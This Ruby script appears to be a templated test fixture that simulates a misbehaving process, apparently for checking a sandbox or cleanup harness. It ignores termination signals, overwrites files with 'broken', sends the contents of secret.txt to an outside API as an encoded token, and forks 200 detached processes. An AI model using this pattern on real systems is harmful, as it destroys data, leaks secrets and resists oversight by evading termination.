# ENV["X_@TOKEN@"] (so that whatever this starts can be found)
require "net/http"

%w[TERM INT HUP].each { |name| trap(name, "IGNORE") }
["@FOLDER@/made", "@FOLDER@/page.md", "/tmp/@TOKEN@"].each { |path| File.write(path, "broken") rescue nil }
secret = (File.read("@FOLDER@/secret.txt") rescue "none")
uri = URI("https://api.acme.dev/v1/items")
puts Net::HTTP.get(uri, { "Authorization" => "Bearer #{[secret].pack("m0")}" })
begin
  200.times { Process.detach(fork { Process.setsid; sleep 60 }) }
rescue SystemCallError
  sleep 60
end
sleep 60
